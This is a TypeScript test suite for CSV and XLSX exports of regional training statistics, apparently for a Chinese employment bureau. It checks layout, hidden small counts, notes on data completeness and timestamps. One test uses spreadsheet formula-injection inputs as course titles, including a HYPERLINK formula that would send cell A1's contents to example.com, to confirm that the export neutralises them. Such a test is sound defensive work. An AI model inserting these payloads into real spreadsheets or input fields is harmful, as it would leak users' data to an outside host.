// The files a bureau downloads: text a school typed (a course title) must not run in Excel, a cell the
// answer does not show (null) is empty, and the file itself says what it holds and whether it was complete.
import { StreamableFile } from '@nestjs/common';
import { Workbook } from 'exceljs';
import { regionFigures } from '../figures/region-figures';
import { ALL } from '../figures/trainee-figures';
import { outcomesTable, regionTable } from './statistics-tables';
import { ExportMade } from './export-notes';
import { exportFile, NOTES_SHEET } from './table-export';

const bytesOf = async (file: StreamableFile): Promise<Buffer> => {
  const chunks: Buffer[] = [];
  for await (const chunk of file.getStream()) chunks.push(Buffer.from(chunk as Uint8Array));
  return Buffer.concat(chunks);
};

const loadWorkbook = async (file: StreamableFile) => {
  const workbook = new Workbook();
  await workbook.xlsx.load((await bytesOf(file)) as unknown as ArrayBuffer);
  return workbook;
};

/** 12:30 in Beijing, as the archive PDF's note writes it. */
const MADE_AT = new Date('2026-12-07T04:30:00Z');
const COMPLETE: ExportMade = { freshness: { completeUpTo: '2026-12-07T04:29:59.000Z', pendingFacts: 0 }, madeAt: MADE_AT };
const LOADING: ExportMade = { freshness: { completeUpTo: null, pendingFacts: 10 }, madeAt: MADE_AT };

const csvLines = async (file: StreamableFile) => (await bytesOf(file)).toString('utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/);

/** The CSV's notes: the first cell of each row after the empty row that ends the table. */
const csvNotes = (lines: string[]) => lines.slice(lines.findIndex((line) => /^,+$/.test(line)) + 1).map((line) => line.replace(/,+$/, '').replace(/^"|"$/g, ''));

describe('table exports', () => {
  const outcomes = (title: string) =>
    outcomesTable({ id: 'school', name: null }, '2025-Q3', { graduates: 2, employedWithin3Months: 1, employedWithin6Months: 2, courses: [{ courseId: 'c1', title, graduates: 2, employedWithin3Months: 1, employedWithin6Months: 2 }] }, COMPLETE);

  it("keeps a course title that looks like a formula from running when the CSV is opened in Excel (a leading ')", async () => {
    for (const title of ['=1+1', '=HYPERLINK("http://example.com/?x="&A1,"点击")', '+1+1', '-1+1', '@SUM(A1)']) {
      const lines = await csvLines(await exportFile(outcomes(title), 'csv'));
      const cell = lines[1].split(',')[1];
      expect(cell.replace(/^"/, '')).toMatch(/^'/);
      expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    }
    // The figures themselves are untouched.
    expect((await csvLines(await exportFile(outcomes('焊工（中级）2025'), 'csv'))).slice(0, 3)).toEqual(['课程编号,课程名称,毕业人数,3个月内就业人数,6个月内就业人数', 'c1,焊工（中级）2025,2,1,2', ',合计,2,1,2']);
  });

  it('writes such a title into the .xlsx as text, not a formula', async () => {
    const workbook = await loadWorkbook(await exportFile(outcomes('=1+1'), 'xlsx'));
    const cell = workbook.worksheets[0].getRow(2).getCell(2);
    expect(cell.value).toBe('=1+1');
    expect(cell.formula).toBeUndefined();
  });

  // Everyone: 5 trained, 1 of them disabled, 4 of them passed.
  const rows = [
      { category: ALL, figure: 'trained', dimension: '', value: 5 },
      { category: ALL, figure: 'sessions', dimension: '', value: 5 },
      { category: 'disabled', figure: 'trained', dimension: '', value: 1 },
      { category: 'disabled', figure: 'sessions', dimension: '', value: 1 },
      { category: 'veteran', figure: 'trained', dimension: '', value: 5 },
      { category: 'veteran', figure: 'sessions', dimension: '', value: 5 },
    { category: ALL, figure: 'passed', dimension: '', value: 4 },
  ];
  const region = (where: { regionCode: string; period: string; occupationCode?: string }, made: ExportMade) =>
    regionTable({ occupationCode: undefined, ...where }, regionFigures(rows, new Map()), made);

  it("leaves a category's hidden count an empty cell, and shows a 5", async () => {
    const lines = await csvLines(await exportFile(region({ regionCode: '430202', period: '2025-07' }, COMPLETE), 'csv'));
    expect(lines[0]).toBe('指标,合计,脱贫人口（建档立卡）,城镇登记失业人员,农村转移就业劳动力,退役军人,残疾人,高校毕业生');
    expect(lines).toContain('培训人数,5,,,,5,,');
    expect(lines).toContain('培训人次,5,,,,5,,');
  });

  it('says after the table, not before it, that a file made while facts were still arriving may be incomplete, when and by how many', async () => {
    const complete = await csvLines(await exportFile(region({ regionCode: '430202', period: '2025-07' }, COMPLETE), 'csv'));
    const loading = await csvLines(await exportFile(region({ regionCode: '430202', period: '2025-07' }, LOADING), 'csv'));
    const warning = '注意：截至 2026年12月7日 12:30（北京时间），本表数据可能不完整，尚有 10 条记录未计入。';
    // The header and the data rows as they were, then an empty row, then the notes, each as wide as the table.
    const tableRows = complete.indexOf(',,,,,,,');
    expect(tableRows).toBe(1 + region({ regionCode: '430202', period: '2025-07' }, COMPLETE).rows.length);
    expect(loading.slice(0, tableRows + 1)).toEqual(complete.slice(0, tableRows + 1));
    expect(loading.slice(tableRows + 1)).toContain(`${warning},,,,,,,`);
    expect(complete.join('\n')).not.toContain('注意');
    // Not known how many: that some may be missing.
    const unknown = await csvLines(await exportFile(region({ regionCode: '430202', period: '2025-07' }, { ...LOADING, freshness: { completeUpTo: null, pendingFacts: null } }), 'csv'));
    expect(unknown).toContain('注意：截至 2026年12月7日 12:30（北京时间），本表数据可能不完整，可能尚有记录未计入。,,,,,,,');

    const sheet = (await loadWorkbook(await exportFile(region({ regionCode: '430202', period: '2025-07' }, LOADING), 'xlsx'))).getWorksheet(NOTES_SHEET)!;
    expect(sheet.getColumn(1).values).toContain(warning);
    const outcomesNotes = (await loadWorkbook(await exportFile(outcomesTable({ id: 'school', name: null }, '2025', { graduates: 0, employedWithin3Months: 0, employedWithin6Months: 0, courses: [] }, LOADING), 'xlsx'))).getWorksheet(NOTES_SHEET)!;
    expect(outcomesNotes.getColumn(1).values).toContain(warning);
  });

  it('names the region, the period and the occupation in the notes, the occupation in the file name too, and says what an empty cell and a rate are', async () => {
    const filtered = await exportFile(region({ regionCode: '430200', period: '2021', occupationCode: '6-18-02-04' }, COMPLETE), 'csv');
    expect(filtered.getHeaders().disposition).toBe('attachment; filename="statistics-430200-2021-6-18-02-04.csv"');
    expect(csvNotes(await csvLines(filtered))).toEqual([
      '地区：430200（含其下辖地区）',
      '统计期：2021年（2021），按业务日期',
      '职业：焊工（6-18-02-04）',
      '空白单元格：不显示的数。人群类别列中不足 5 的数（含 0）不显示，其合格率随之不显示；月工资中位数在录用不足 5 人时不显示。',
      '制表时间：2026年12月7日 12:30（北京时间）',
      '培训合格率为小数：0.9 即 90%。',
    ]);
    const unfiltered = await exportFile(region({ regionCode: '000000', period: '2025-Q3' }, COMPLETE), 'csv');
    expect(unfiltered.getHeaders().disposition).toBe('attachment; filename="statistics-000000-2025-Q3.csv"');
    const lines = await csvLines(unfiltered);
    expect(csvNotes(lines).slice(0, 3)).toEqual(['地区：全国（000000）（含其下辖地区）', '统计期：2025年第3季度（2025-Q3），按业务日期', '职业：全部职业']);
    // The CSV keeps the rate the plain number; the .xlsx shows it as the page does, 80.0%.
    expect(lines).toContain('培训合格率,0.8,,,,,,');

    const workbook = await loadWorkbook(await exportFile(region({ regionCode: '430202', period: '2025-07', occupationCode: '6-18-02-04' }, COMPLETE), 'xlsx'));
    const rate = workbook.worksheets[0].getRow(5);
    expect([rate.getCell(1).value, rate.getCell(2).value, rate.getCell(2).numFmt]).toEqual(['培训合格率', 0.8, '0.0%']);
    expect(workbook.worksheets[0].getRow(4).getCell(2).numFmt).toBeUndefined();
    expect(workbook.getWorksheet(NOTES_SHEET)!.getColumn(1).values.slice(1)).toEqual([
      '地区：430202',
      '统计期：2025年7月（2025-07），按业务日期',
      '职业：焊工（6-18-02-04）',
      '空白单元格：不显示的数。人群类别列中不足 5 的数（含 0）不显示，其合格率随之不显示；月工资中位数在录用不足 5 人时不显示。',
      '制表时间：2026年12月7日 12:30（北京时间）',
      '培训合格率以百分比显示。',
    ]);
  });

  it('says when every file was made, in Beijing time, complete or not', async () => {
    const made = '制表时间：2026年12月7日 12:30（北京时间）';
    for (const exported of [region({ regionCode: '430202', period: '2025-07' }, COMPLETE), region({ regionCode: '430202', period: '2025-07' }, LOADING)]) {
      expect(csvNotes(await csvLines(await exportFile(exported, 'csv')))).toContain(made);
    }
    const outcomesNotes = csvNotes(await csvLines(await exportFile(outcomesTable({ id: 'a1', name: null }, '2025-Q3', { graduates: 0, employedWithin3Months: 0, employedWithin6Months: 0, courses: [] }, COMPLETE), 'csv')));
    expect(outcomesNotes).toContain(made);
  });

  it('labels the passed row as the page does (培训合格人数)', async () => {
    const lines = await csvLines(await exportFile(region({ regionCode: '430202', period: '2025-07' }, COMPLETE), 'csv'));
    expect(lines).toContain('培训合格人数,4,,,,,,');
    expect(lines.some((line) => line.startsWith('合格人数,'))).toBe(false);
  });

  it('writes an occupation the classification has no name for by its code, once', async () => {
    const notes = csvNotes(await csvLines(await exportFile(region({ regionCode: '430200', period: '2021', occupationCode: '6-99-99-99' }, COMPLETE), 'csv')));
    expect(notes).toContain('职业：6-99-99-99');
  });

  it("names the school by its name where known and always by its id, and the period, in the outcomes' notes", async () => {
    const figures = { graduates: 0, employedWithin3Months: 0, employedWithin6Months: 0, courses: [] };
    const named = await csvLines(await exportFile(outcomesTable({ id: 'a1', name: '株洲焊接学校' }, '2025-Q3', figures, COMPLETE), 'csv'));
    expect(named.slice(2)).toEqual([',,,,', '学校：株洲焊接学校（a1）,,,,', '统计期：2025年第3季度（2025-Q3），按考核日期,,,,', '制表时间：2026年12月7日 12:30（北京时间）,,,,']);
    expect(await csvLines(await exportFile(outcomesTable({ id: 'a1', name: null }, '2025-Q3', figures, COMPLETE), 'csv'))).toContain('学校：a1,,,,');
  });
});
